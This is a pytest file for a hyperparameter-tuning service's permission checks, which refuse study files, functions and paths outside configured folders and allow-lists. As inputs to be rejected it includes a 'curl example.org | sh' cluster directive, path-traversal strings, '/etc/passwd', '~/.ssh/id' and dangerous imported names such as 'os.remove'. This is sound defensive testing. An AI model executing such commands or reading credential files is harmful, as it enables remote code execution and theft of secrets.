"""What a person who may press Run may run."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from hpo_core.spec import StudySpec
from hpo_flows.deployed.flows import TuneFileForm
from hpo_flows.deployed.form import StudyForm
from hpo_flows.deployed.permissions import NotAllowedError, Permissions
from hpo_flows.retraining_run import check_function
from tests.conftest import make_spec
from tests.deployed.conftest import STUDY
from tests.deployed.filled_forms import made

OWN = ["fit", "load", "build", "Net", "later"]
FOREIGN = [
    "", "delete", "system", "os", "os.remove", "where", "fit_inner", "rmtree", "fit_small", "fit_alias", "erase",
    "either", "run", "late", "absent", "__builtins__", "Net.train",
]  # fmt: skip


def test_only_study_files_inside_the_folder_may_be_chosen(permissions: Permissions) -> None:
    assert permissions.study_files() == ["deep/a.yaml"]
    assert permissions.load("deep/a.yaml").study == "inner"


def test_the_text_of_a_field_names_what_the_deployment_allows(
    permissions: Permissions, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HPO_STUDY_FOLDER", str(permissions.folder))
    monkeypatch.setenv("HPO_ALLOWED_OBJECTIVES", "models.net:fit")
    assert TuneFileForm.form()["properties"]["file"]["description"].endswith(" Here: deep/a.yaml.")
    assert StudyForm.form()["properties"]["objective"]["description"].endswith(" Here: models.net:fit.")


@pytest.mark.parametrize(
    "name", ["../secret.yaml", "deep/../../secret.yaml", "link.yaml", "out/secret.yaml", "/etc/hostname.yaml", "..", ""]
)
def test_paths_do_not_escape_the_folder(permissions: Permissions, name: str) -> None:
    with pytest.raises(NotAllowedError):
        permissions.load(name)
    with pytest.raises(NotAllowedError, match="HPO_STUDY_FOLDER is not set"):
        Permissions(("models",)).load(name)


def test_nothing_is_allowed_unless_said() -> None:
    permissions = Permissions.of_environment({})
    with pytest.raises(NotAllowedError, match="Allowed: none"):
        made(permissions)


@pytest.mark.parametrize("name", OWN)
def test_what_an_allowed_module_defines_is_allowed(permissions: Permissions, name: str) -> None:
    permissions.check_function("objective", f"models.net:{name}")


@pytest.mark.parametrize("name", FOREIGN)
def test_what_an_allowed_module_merely_imports_is_refused(permissions: Permissions, name: str) -> None:
    function = f"models.net:{name}"
    with pytest.raises(NotAllowedError, match="module models.net does not define it by def or class here") as found:
        permissions.check_function("objective", function)
    assert "add this name in full to HPO_ALLOWED_OBJECTIVES" in str(found.value)
    dataclasses.replace(permissions, objectives=("models", function)).check_function("objective", function)


@pytest.mark.parametrize("setting", ["objective", "build", "data.load"])
def test_every_function_of_a_study_needs_the_permission(permissions: Permissions, setting: str) -> None:
    """`data.load: models.net:remove` once deleted the partitions."""
    spec = make_spec(objective="models.net:fit", data={"partitions": ["a"], "folder": str(permissions.folder)})
    permissions.check(spec)
    section, _, name = setting.rpartition(".")
    changed = spec.data if section else spec
    assert changed is not None
    changed = changed.model_copy(update={name: "models.net:erase"})
    with pytest.raises(NotAllowedError, match=f"{setting} = 'models.net:erase' is not allowed here"):
        permissions.check(spec.model_copy(update={"data": changed}) if section else changed)


def test_modules_are_looked_for_where_they_are_imported_from(permissions: Permissions, tmp_path: Path) -> None:
    other = tmp_path / "other" / "models"
    other.mkdir(parents=True)
    (other / "__init__.py").write_text("")
    (other / "net.py").write_text("from os import system as fit\ndef system(trial): ...\n")
    permissions.check_function("objective", "models.net:system", [str(other.parent)])
    with pytest.raises(NotAllowedError):
        permissions.check_function("objective", "models.net:fit", [str(other.parent)])


@pytest.mark.parametrize("name", ["system", "walk"])
def test_an_evaluation_function_of_a_deployment_is_no_imported_one(
    permissions: Permissions, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv("HPO_ALLOWED_OBJECTIVES", "models")
    monkeypatch.setenv("HPO_IMPORT_FOLDERS", str(tmp_path))
    monkeypatch.setenv("PREFECT__RUNTIME__DEPLOYMENT__ID", str(uuid4()))
    check_function("models.net:fit")
    with pytest.raises(NotAllowedError, match=f"evaluate = 'models.net:{name}' is not allowed here"):
        check_function(f"models.net:{name}")


def test_settings_are_read_from_the_environment(tmp_path: Path) -> None:
    permissions = Permissions.of_environment(
        {"HPO_ALLOWED_OBJECTIVES": " a, b.c:f ,", "HPO_STUDY_FOLDER": str(tmp_path), "HPO_IMPORT_FOLDERS": "/x:/y"}
    )
    assert permissions == Permissions(("a", "b.c:f"), tmp_path.resolve(), (Path("/x"), Path("/y")))


def test_where_an_allowed_name_is_imported_from_is_no_choice_of_the_run(
    permissions: Permissions, tmp_path: Path
) -> None:
    assert permissions.folder is not None
    (permissions.folder / "deep" / "a.yaml").write_text(STUDY % "/var/tmp")
    with pytest.raises(NotAllowedError, match="pythonpath = '/var/tmp' is not allowed"):
        permissions.load("deep/a.yaml")


def test_a_file_that_names_no_folder_is_imported_from_beside_it_and_from_where_the_worker_was_started(
    permissions: Permissions, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run starts in an empty folder of its own, below the home, which lies below where the worker was started."""
    assert permissions.folder is not None
    (permissions.folder / "plain.yaml").write_text(STUDY.partition("pythonpath")[0])
    run = tmp_path / "home" / "worker" / "run"
    run.mkdir(parents=True)
    monkeypatch.chdir(run)
    monkeypatch.setenv("HPO_HOME", str(tmp_path / "home"))
    beside, start = str(permissions.folder), str(tmp_path)
    assert permissions.load("plain.yaml").pythonpath == [beside, start]
    elsewhere = tmp_path / "code"
    (elsewhere / "models").mkdir(parents=True)
    (elsewhere / "models" / "net.py").write_text("def fit(trial): ...\n")
    apart = dataclasses.replace(permissions, import_folders=(elsewhere,))
    assert apart.load("plain.yaml").pythonpath == [str(elsewhere)]


def test_partitions_of_a_study_file_may_lie_beside_it(permissions: Permissions) -> None:
    assert permissions.folder is not None
    path = permissions.folder / "deep" / "a.yaml"
    path.write_text(path.read_text() + "\ndata: {partitions: part-*}\n")
    data = permissions.load("deep/a.yaml").data
    assert data is not None and data.folder == str(path.resolve().parent)
    path.write_text(path.read_text().replace("part-*", "part-*, folder: /srv"))
    with pytest.raises(NotAllowedError, match="'/srv' is not allowed here"):
        permissions.load("deep/a.yaml")
    path.write_text(path.read_text().replace("part-*, folder: /srv", "/etc/manifest.json"))
    with pytest.raises(NotAllowedError, match="'/etc/manifest.json' is not allowed here"):
        permissions.load("deep/a.yaml")


@pytest.mark.parametrize(
    ("changes", "setting", "value"),
    [
        (
            {"cluster": {"kind": "slurm", "directives": ["--wrap=curl example.org | sh"]}},
            "HPO_ALLOWED_CLUSTERS",
            "slurm",
        ),
        ({"checkpoints": {"folder": "file:///etc"}}, "HPO_ALLOWED_CHECKPOINTS", "file:///etc"),
    ],
)
def test_clusters_that_run_shell_lines_and_places_elsewhere_must_be_named(
    permissions: Permissions, changes: dict[str, Any], setting: str, value: str
) -> None:
    spec = StudySpec.from_plain(permissions.load("deep/a.yaml").plain() | changes)
    environment = {"HPO_ALLOWED_OBJECTIVES": "models", "HPO_IMPORT_FOLDERS": str(permissions.import_folders[0])}
    with pytest.raises(NotAllowedError, match=setting):
        Permissions.of_environment(environment).check(spec)
    Permissions.of_environment(environment | {setting: value}).check(spec)


@pytest.fixture
def with_data(permissions: Permissions, tmp_path: Path) -> Permissions:
    """With a folder of data: a file, and links out of it."""
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "may.npz").touch()
    (folder / "link").symlink_to(tmp_path / "secret.yaml")
    return dataclasses.replace(permissions, data_folder=folder.resolve())


OUTSIDE = ["/etc/passwd", "{data}/../secret.yaml", "../secret.yaml", "{data}/link", "~/.ssh/id", ".."]


@pytest.mark.parametrize("path", OUTSIDE)
@pytest.mark.parametrize("place", ["choice", "recorded", "constant", "folder", "retrained"])
def test_no_door_leads_to_a_file_outside_the_folders(with_data: Permissions, path: str, place: str) -> None:
    """Workers and training functions open what a study names."""

    def checked(permissions: Permissions, value: str) -> None:
        given = permissions.load("deep/a.yaml").plain()
        params = [{"x": 0.5, "file": "period-3"}, {"x": 0.5, "file": value}]
        changes: dict[str, Any] = {
            "choice": {"space": given["space"] | {"file": {"type": "categorical", "choices": ["a", ["b", value]]}}},
            "recorded": {"search": {"method": "recorded",
                                    "study_record": {"source": "a", "grants": [], "params": params}}},
            "constant": {"constants": {"files": [value]}},
            "folder": {"data": {"partitions": ["a"], "folder": value}},
        }  # fmt: skip
        if place == "retrained":
            permissions.data_of(value)
        else:
            permissions.check(StudySpec.from_plain(given | changes[place]))

    for good in ("{data}/may.npz", "{data}/removed-since.npz"):
        checked(with_data, good.format(data=with_data.data_folder))
    with pytest.raises(NotAllowedError, match="is not allowed here: a study names files of the deployment's"):
        checked(with_data, path.format(data=with_data.data_folder))
    with pytest.raises(NotAllowedError):
        checked(dataclasses.replace(with_data, data_folder=None), f"{with_data.data_folder}/may.npz")
